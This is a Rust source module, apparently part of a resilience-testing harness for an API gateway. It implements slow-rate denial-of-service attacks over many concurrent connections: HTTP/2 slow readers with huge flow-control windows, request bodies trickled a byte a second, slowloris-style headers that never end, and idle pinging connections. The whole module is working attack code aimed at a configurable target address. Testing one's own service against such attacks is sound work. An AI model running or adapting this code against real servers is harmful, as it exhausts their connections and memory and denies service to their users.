//! Attacks by how little is sent or read, on many connections.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::attack::{Attacker, BACK_AFTER};
use super::wire::{
    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, WINDOW_UPDATE, Wire, call,
    frame, greet,
};
use super::{LIST, MESSAGE, WATCH};
use crate::Failure;

/// Connections, and streams on each.
const READERS: usize = 100;
const STREAMS: u32 = 10;
const WRITERS: usize = 200;
const HEADS: usize = 1_000;
const IDLE: usize = 2_000;
/// Between two bytes.
const BYTE_PERIOD: Duration = Duration::from_secs(1);
/// What a slow reader lets the gateway send at once, in bytes: more than it will ever read.
const WINDOW_BYTES: u32 = 1 << 30;
const CONNECTION_WINDOW_BYTES: u32 = 1 << 30;
/// What it reads in a second, in bytes.
const READ_BYTES: usize = 16;

/// So many at once; they come one after the other.
async fn many<F: Future<Output = ()>>(count: usize, one: impl Fn() -> F) {
    join_all((0..count).map(|number| {
        let one = &one;
        async move {
            crate::pause(BACK_AFTER / 25 * u32::try_from(number).unwrap_or(0)).await;
            one().await;
        }
    }))
    .await;
}

/// A thousand streams without an end, of which some bytes a second are read, so that none of them stands still.
pub async fn readers(attacker: &Attacker) {
    many(READERS, || attacker.again(|| reader(attacker))).await;
}

async fn reader(attacker: &Attacker) -> Result<(), Failure> {
    let (mut reader, mut writer) =
        greet(attacker.addr, &[(INITIAL_WINDOW_SIZE, WINDOW_BYTES)]).await?;
    writer.write_all(&frame(WINDOW_UPDATE, 0, 0, &CONNECTION_WINDOW_BYTES.to_be_bytes())).await?;
    let head = call(WATCH, &attacker.token);
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        writer.write_all(&frame(HEADERS, END_HEADERS, stream, &head)).await?;
        writer.write_all(&frame(DATA, END_STREAM, stream, MESSAGE)).await?;
        attacker.did(1);
    }
    let mut buffer = [0; READ_BYTES];
    loop {
        crate::pause(BYTE_PERIOD).await;
        reader.read_exact(&mut buffer).await?;
        // As those do who read; and whoever was cut off learns of it now, not when all that came before is read.
        writer.write_all(&frame(WINDOW_UPDATE, 0, 0, &16_u32.to_be_bytes())).await?;
    }
}

/// Calls that never say all of it.
pub async fn bodies(attacker: &Attacker) {
    many(WRITERS, || {
        attacker.again(|| async {
            let mut wire = Wire::open(attacker.addr).await?;
            let streams: Vec<u32> = (0..STREAMS).map(|_| wire.stream()).collect();
            let head = call(LIST, &attacker.token);
            for stream in &streams {
                wire.send(&frame(HEADERS, END_HEADERS, *stream, &head)).await?;
            }
            loop {
                for stream in &streams {
                    wire.send(&frame(DATA, 0, *stream, b"\0")).await?;
                    attacker.did(1);
                }
                crate::pause(BYTE_PERIOD).await;
            }
        })
    })
    .await;
}

/// Heads that never end.
pub async fn heads(attacker: &Attacker) {
    many(HEADS, || {
        attacker.again(|| async {
            let mut socket = TcpStream::connect(attacker.addr).await?;
            socket
                .write_all(format!("POST {LIST} HTTP/1.1\r\nhost: gateway\r\nx-slow: ").as_bytes())
                .await?;
            loop {
                crate::pause(BYTE_PERIOD).await;
                socket.write_all(b"x").await?;
                attacker.did(1);
            }
        })
    })
    .await;
}

/// Connections that answer nothing, and ping once in a while so that they do not look dead.
pub async fn idle(attacker: &Attacker) {
    many(IDLE, || {
        attacker.again(|| async {
            let mut wire = Wire::open(attacker.addr).await?;
            loop {
                wire.send(&frame(PING, 0, 0, &[7; 8])).await?;
                attacker.did(1);
                crate::pause(10 * BYTE_PERIOD).await;
            }
        })
    })
    .await;
}
